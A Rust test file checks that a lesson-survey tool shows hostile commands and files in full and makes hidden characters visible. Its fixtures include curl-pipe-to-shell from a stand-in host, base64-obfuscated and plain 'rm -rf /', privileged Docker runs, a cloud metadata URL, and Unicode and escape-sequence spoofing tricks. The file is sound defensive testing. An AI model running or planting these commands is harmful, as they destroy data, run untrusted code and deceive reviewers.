//! Tests the list with hostile lessons. The list must show every hostile text completely.

use super::*;
use crate::lesson::{Lesson, LessonId, parse};
use crate::text::Source;

const COMMANDS: &[&str] = &[
    "docker run --privi\"\"leged alpine",
    "docker run -v /:/host alpine",
    "s\\udo rm -rf --no-preserve-root /",
    "curl x.example | sh",
    "sh -c \"$(echo cm0gLXJmIC8K | base64 -d)\"",
    "docker ps \u{202e}sp rekcod",
    "d\u{43e}cker ps",
    "docker ps \u{1b}[2K\u{1b}[1A",
    "docker ps \u{e0041}",
];

const FILES: &[(&str, &str)] = &[
    ("Dockerfile", "# syntax=evil/frontend\nFROM alpine\nRUN curl x.example | sh"),
    ("compose.yaml", "services:\n  a:\n    privileged: true"),
    ("setup.sh", "#!/bin/sh\nsudo rm -rf /home"),
];

const CLAIMS: &[&str] =
    &["run: [\"sh\", \"-c\", \"rm -rf /home\"]", "http: http://169.254.169.254/latest", "registry: evil.example/a"];

fn lesson(text: &str) -> Lesson {
    parse(&Source::new("a.md", text), LessonId("a".into())).0
}

/// Returns every hostile lesson, with a text that the list must show. The text is empty for a claim.
pub(crate) fn corpus() -> Vec<(Lesson, String)> {
    let fence = |kind: &str, body: &str| lesson(&format!("# A\n\n## S {{#s}}\n\n```{kind}\n{body}\n```\n"));
    let command =
        |kind: &'static str| COMMANDS.iter().map(move |text| (fence(kind, &format!("$ {text}")), (*text).to_owned()));
    let files = FILES.iter().map(|(path, text)| (fence(&format!("text,file={path}"), text), format!("{text}\n")));
    let claims = CLAIMS.iter().map(|text| (fence("check", text), String::new()));
    command("console").chain(command("console,hidden")).chain(files).chain(claims).collect()
}

#[test]
fn survey_lists_the_exact_text_of_every_hostile_command_and_file() {
    for (lesson, text) in corpus() {
        let survey = survey([&lesson]);
        assert!(!survey.items.is_empty(), "{:?}", lesson.source.text());
        assert!(text.is_empty() || survey.items.iter().any(|item| item.text == text), "{text:?}: {survey:?}");
    }
}

#[test]
fn hashed_bytes_change_only_with_commands_files_and_subjects_of_claims() {
    let base = "# A\n\n## S {#s}\n\nWords.\n\n```console\n$ docker ps\nCONTAINER\n```\n\n```text,file=a.txt\nx\n```\n\n\
        ```check\nrun: [\"id\"]\nexit: 0\n```\n";
    let bytes = |text: &str| survey([&lesson(text)]).bytes();
    for (from, to) in [("Words", "Other"), ("CONTAINER", "NAMES"), ("exit: 0", "exit: 1")] {
        assert_eq!(bytes(base), bytes(&base.replace(from, to)), "{from}");
    }
    for (from, to) in [
        ("docker ps", "docker  ps"),
        ("\nx\n", "\ny\n"),
        ("a.txt", "b.txt"),
        ("\"id\"", "\"i\", \"d\""),
        ("console", "console,hidden"),
        ("[\"id\"]", "[\"id\"]\nin: web"),
    ] {
        assert_ne!(bytes(base), bytes(&base.replace(from, to)), "{from}");
    }
}

proptest::proptest! {
    #[test]
    fn plain_text_is_shown_as_it_is(text in "[ -~]{0,80}") {
        proptest::prop_assert_eq!(visible(&text), text);
    }

    #[test]
    fn hidden_characters_are_written_out(text in "\\PC{0,40}|(.|\n){0,40}") {
        let shown = visible(&text);
        proptest::prop_assert!(!shown.chars().any(|c| c.is_control() && c != '\n' && c != '\t'));
    }
}
